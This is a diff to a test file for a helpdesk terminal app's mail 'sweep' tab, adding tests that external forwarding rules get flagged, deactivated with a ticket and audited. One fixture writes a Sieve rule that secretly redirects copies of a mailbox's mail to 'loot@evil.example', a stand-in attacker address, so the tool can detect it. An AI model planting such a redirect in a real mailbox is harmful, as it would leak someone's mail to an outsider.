@@ -1,5 +1,6 @@
 """The sweep tab at 80×24: a forward another program wrote is listed as such and flagged,
-and `u`, a ticket and F2 remove it with an audit row; a password change is not undone."""
+and `u`, a ticket and F2 remove it with an audit row; a password change is not undone; the
+customer's script that redirects outside is flagged and deactivated the same way."""
 
 from __future__ import annotations
 
@@ -18,6 +19,8 @@ from helpdesk.mailcenter.schema import audit_log, forwards, mailboxes
 from screens.dialogs.ticket import TicketDialog
 from screens.sweep import TAB_LABEL, SweepTab
 from screens.translated import Translated
+from screens.widgets.status import StatusLine
+from tests.rules_dir import command, put
 from tests.screen_check import WatchedApp, check, settle
 
 pytestmark = pytest.mark.tui
@@ -79,4 +82,52 @@ async def test_undo_a_forward_another_program_wrote(tmp_path: Path):
         assert conn.execute(select(forwards)).first() is None
         actions = conn.execute(select(audit_log.c.action)).scalars().all()
     assert actions == ["sweep.undo"]
+    db.dispose()
+
+
+async def test_a_customer_script_that_redirects_outside_is_flagged_and_deactivated(tmp_path: Path):
+    url = f"sqlite:///{tmp_path / 'mailcenter.sqlite'}"
+    db = Database(url)
+    db.create_schema()
+    with db.begin() as conn:
+        create_mailbox(conn, ADDRESS, password_hash="x")
+    folder = tmp_path / "sieve"
+    put(folder, ADDRESS, "own", 'require ["copy"];\nredirect :copy "loot@evil.example";\n')
+    config = tmp_path / "helpdesk.toml"
+    config.write_text(f'[database]\nurl = "{url}"\n\n[sieve]\nrules_command = {command(folder)}\n')
+    app = WatchedApp(load_config(config))
+    async with app.run_test(size=(80, 24)) as pilot:
+        await app.push_screen(Host())
+        rows = await _rows(app, pilot)
+        check(app, "sweep tab, a rule")
+        assert len(rows) == 1 and "rule added: own" in rows[0] and "EXTERNAL" in rows[0], rows
+        status = app.screen.query_one("#sweep-status", StatusLine).text
+        assert "rules not read" not in status, status
+        table = app.screen.query_one("#sweep-table", DataTable)
+        table.focus()
+        await pilot.press("u")
+        await settle(app, pilot)
+        assert isinstance(app.screen, TicketDialog)
+        await pilot.press(*"HD-10", "f2")
+        await _rows(app, pilot)
+    assert not (folder / ADDRESS / "active").exists()
+    with db.connect() as conn:
+        assert conn.execute(select(audit_log.c.ticket)).scalars().all() == ["HD-10"]
+    db.dispose()
+
+
+async def test_the_tab_says_when_the_rules_cannot_be_read(tmp_path: Path):
+    url = f"sqlite:///{tmp_path / 'mailcenter.sqlite'}"
+    db = Database(url)
+    db.create_schema()
+    with db.begin() as conn:
+        create_mailbox(conn, ADDRESS, password_hash="x")
+    config = tmp_path / "helpdesk.toml"
+    config.write_text(f'[database]\nurl = "{url}"\n')
+    app = WatchedApp(load_config(config))
+    async with app.run_test(size=(80, 24)) as pilot:
+        await app.push_screen(Host())
+        await _rows(app, pilot)
+        status = app.screen.query_one("#sweep-status", StatusLine).text
+        assert "rules not read" in status, status
     db.dispose()
